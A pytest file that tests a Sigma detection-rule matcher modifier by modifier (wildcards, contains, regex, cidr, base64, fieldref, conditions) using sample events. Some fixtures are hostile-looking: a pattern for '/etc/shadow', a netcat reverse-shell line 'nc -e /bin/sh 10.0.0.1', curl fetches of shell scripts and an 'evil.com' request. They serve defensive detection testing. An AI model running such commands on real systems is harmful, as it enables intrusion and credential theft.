"""Each Sigma modifier and value form, with events that must and must not match."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from typing import Any

import pytest

from .helpers import load_one, matches

DS = {"event.dataset": "test"}


def ev(**fields: Any) -> dict[str, Any]:
    return {**DS, **{key.replace("__", "."): value for key, value in fields.items()}}


def check(detection: str, yes: list[dict[str, Any]], no: list[dict[str, Any]]) -> None:
    ruleset = load_one(detection, "product: keelwatch\nservice: test")
    for event in yes:
        assert matches(ruleset, event), event
    for event in no:
        assert not matches(ruleset, event), event


def test_plain_strings_are_case_insensitive_equality() -> None:
    check(
        "sel:\n  verb: Create\ncondition: sel",
        [ev(verb="create"), ev(verb="CREATE"), ev(verb=["get", "create"])],
        [ev(verb="created"), ev(verb="xcreate"), ev(other="create"), {"verb": "create"}],
    )


def test_wildcards_star_and_question_mark() -> None:
    check(
        "sel:\n  path: '/etc/*sh?dow'\ncondition: sel",
        [ev(path="/etc/shadow"), ev(path="/ETC/x/shXdow"), ev(path="/etc/a\nb/shadow")],
        [ev(path="/etc/shdow"), ev(path="/etc/shadow2"), ev(path="/var/etc/shadow")],
    )


def test_escaped_wildcard_is_literal() -> None:
    check(
        r"sel:" "\n" r"  name: 'a\*b'" "\ncondition: sel",
        [ev(name="a*b"), ev(name="A*B")],
        [ev(name="axb"), ev(name="ab")],
    )


def test_contains_startswith_endswith() -> None:
    check(
        """
        sel:
          cmd|contains: 'curl '
          cmd|startswith: '/usr/'
          cmd|endswith: '.sh'
        condition: sel
        """,
        [ev(cmd="/usr/bin/CURL http://x/a.sh"), ev(cmd="/USR/curl x.SH")],
        [ev(cmd="/bin/curl http://x/a.sh"), ev(cmd="/usr/bin/wget x.sh"), ev(cmd="/usr/curl x.py")],
    )


def test_cased_is_case_sensitive_for_every_form() -> None:
    check(
        "sel:\n  - a|cased: Exact\n  - b|cased|contains: Mid\n  - c|cased|startswith: Pre\n"
        "condition: sel",
        [ev(a="Exact"), ev(b="xMidx"), ev(c="Prefix")],
        [ev(a="exact"), ev(a="EXACT"), ev(b="xmidx"), ev(c="prefix")],
    )


def test_all_needs_every_value() -> None:
    check(
        "sel:\n  cmd|contains|all:\n    - '-e'\n    - '/bin/sh'\ncondition: sel",
        [ev(cmd="nc -e /bin/sh 10.0.0.1"), ev(cmd=["nc -e x", "y /bin/sh"])],
        [ev(cmd="nc /bin/sh"), ev(cmd="nc -e /bin/bash")],
    )


def test_list_of_values_is_any() -> None:
    check(
        "sel:\n  verb:\n    - create\n    - delete\ncondition: sel",
        [ev(verb="delete"), ev(verb="Create")],
        [ev(verb="get"), ev()],
    )


def test_regular_expressions_use_flags_and_search() -> None:
    check(
        "sel:\n  - a|re: 'ab+c$'\n  - b|re|i: '^x[0-9]{2}'\n  - c|re|s: 'one.two'\n"
        "  - d|re|m: '^second$'\ncondition: sel",
        [ev(a="zzabbbc"), ev(b="X12y"), ev(c="one\ntwo"), ev(d="first\nsecond\nthird")],
        [ev(a="ABC"), ev(a="abcd"), ev(b="x1"), ev(c="one\nthree"), ev(d="first second")],
    )


def test_regex_is_case_sensitive_without_i() -> None:
    check("sel:\n  a|re: 'Admin'\ncondition: sel", [ev(a="xAdminx")], [ev(a="admin")])


def test_cidr_ipv4_and_ipv6() -> None:
    check(
        "sel:\n  ip|cidr:\n    - 10.0.0.0/8\n    - 'fd00::/8'\ncondition: sel",
        [ev(ip="10.1.2.3"), ev(ip="fd12::1"), ev(ip=["192.168.0.1", "10.0.0.9"])],
        [ev(ip="11.0.0.1"), ev(ip="10.0.0.1x"), ev(ip="010.0.0.1"), ev(ip="fe80::1"), ev(ip=10)],
    )


def test_base64_and_base64offset() -> None:
    encoded = base64.b64encode(b"xxmalicious payload").decode()
    check(
        "sel:\n  - a|base64: 'secret'\n  - b|base64offset|contains: 'malicious'\ncondition: sel",
        [ev(a=base64.b64encode(b"secret").decode()), ev(b=f"cmd {encoded}")],
        [ev(a="secret"), ev(b="malicious")],
    )


def test_wide_utf16le() -> None:
    wide = "cmd".encode("utf-16le").decode("latin-1")
    check("sel:\n  a|wide|contains: 'cmd'\ncondition: sel", [ev(a=f"x{wide}x")], [ev(a="cmd")])


def test_windash_accepts_dash_variants() -> None:
    check(
        "sel:\n  cmd|windash|contains: ' -exec '\ncondition: sel",
        [ev(cmd="find . -exec x"), ev(cmd="find . /exec x"), ev(cmd="find . \u2013exec x")],
        [ev(cmd="find . exec x")],
    )


def test_exists_true_and_false() -> None:
    check("sel:\n  a|exists: true\ncondition: sel", [ev(a=""), ev(a=0)], [ev(), ev(a=None)])
    check("sel:\n  a|exists: false\ncondition: sel", [ev(), ev(a=None)], [ev(a="x")])


def test_null_value() -> None:
    check("sel:\n  a: null\ncondition: sel", [ev(), ev(a=None)], [ev(a=""), ev(a="x")])


def test_numeric_comparisons() -> None:
    check(
        "sel:\n  n|gte: 400\n  n|lt: 500\ncondition: sel",
        [ev(n=400), ev(n=499.5), ev(n="403")],
        [ev(n=399), ev(n=500), ev(n="abc"), ev(n=True), ev()],
    )
    check("sel:\n  n|gt: 1\ncondition: sel", [ev(n=2)], [ev(n=1)])
    check("sel:\n  n|lte: 1\ncondition: sel", [ev(n=1), ev(n=-5)], [ev(n=2)])


def test_numbers_and_booleans_compare_as_text() -> None:
    check(
        "sel:\n  - code: 403\n  - flag: true\n  - port: '8080'\ncondition: sel",
        [
            ev(code=403),
            ev(code="403"),
            ev(code=403.0),
            ev(flag=True),
            ev(flag="TRUE"),
            ev(port=8080),
        ],
        [ev(code=4030), ev(code="0403"), ev(flag=False), ev(flag=1), ev(port="80")],
    )


def test_fieldref_forms() -> None:
    check(
        "sel:\n  a|fieldref: b\ncondition: sel",
        [ev(a="Alice", b="alice"), ev(a=5, b=5)],
        [ev(a="alice", b="bob"), ev(a="x"), ev(b="x")],
    )
    check(
        "sel:\n  a|fieldref|startswith: b\ncondition: sel",
        [ev(a="arn:aws:iam::1:user/bob", b="ARN:aws")],
        [ev(a="arn", b="arn:aws")],
    )
    check(
        "sel:\n  a|fieldref|endswith: b\ncondition: sel",
        [ev(a="arn:aws:iam::1:user/bob", b="/Bob")],
        [ev(a="arn:aws:iam::1:user/bobby", b="/bob")],
    )
    check(
        "sel:\n  a|fieldref|contains: b\ncondition: sel",
        [ev(a="arn:aws:iam::1:user/bob", b="IAM::1")],
        [ev(a="arn:aws", b="iam")],
    )


def test_timestamp_parts() -> None:
    moment = datetime(2026, 3, 1, 23, 15, tzinfo=UTC)
    check(
        "sel:\n  '@timestamp|hour': 23\ncondition: sel",
        [ev(**{"@timestamp": moment}), ev(**{"@timestamp": "2026-03-01T23:59:00Z"})],
        [ev(**{"@timestamp": moment.replace(hour=1)}), ev()],
    )


def test_keywords_search_message_and_original() -> None:
    check(
        "keywords:\n  - 'evil.com'\n  - '|re': 'x[0-9]+y'\ncondition: keywords",
        [ev(message="GET http://EVIL.com/a"), ev(**{"event.original": '{"u":"evil.com"}'})],
        [ev(message="good.com"), ev(url="evil.com")],
    )


def test_keyword_regex() -> None:
    check(
        "keywords:\n  '|re': 'x[0-9]+y'\ncondition: keywords",
        [ev(message="ax12y")],
        [ev(message="xy")],
    )


@pytest.mark.parametrize(
    ("condition", "yes", "no"),
    [
        ("a and b", {"x": "1", "y": "2"}, {"x": "1", "y": "3"}),
        ("a or b", {"x": "9", "y": "2"}, {"x": "9", "y": "9"}),
        ("a and not b", {"x": "1", "y": "3"}, {"x": "1", "y": "2"}),
        ("a and not b", {"x": "1"}, {"y": "2"}),  # not over an absent field is true
        ("1 of sel*", {"x": "9", "z": "3"}, {"x": "9", "z": "9"}),
        ("all of sel*", {"x": "1", "z": "3"}, {"x": "1", "z": "4"}),
        ("all of them", {"x": "1", "y": "2", "z": "3"}, {"x": "1", "y": "2"}),
        ("not (a or b)", {"x": "5", "y": "5"}, {"x": "1"}),
    ],
)
def test_condition_forms(condition: str, yes: dict[str, str], no: dict[str, str]) -> None:
    detection = (
        f"a:\n  x: '1'\nb:\n  y: '2'\nsel1:\n  x: '1'\nsel2:\n  z: '3'\ncondition: {condition}"
    )
    check(detection, [ev(**yes)], [ev(**no)])


def test_several_conditions_are_alternatives() -> None:
    check(
        "a:\n  x: '1'\nb:\n  y: '2'\ncondition:\n  - a\n  - b", [ev(x="1"), ev(y="2")], [ev(x="2")]
    )
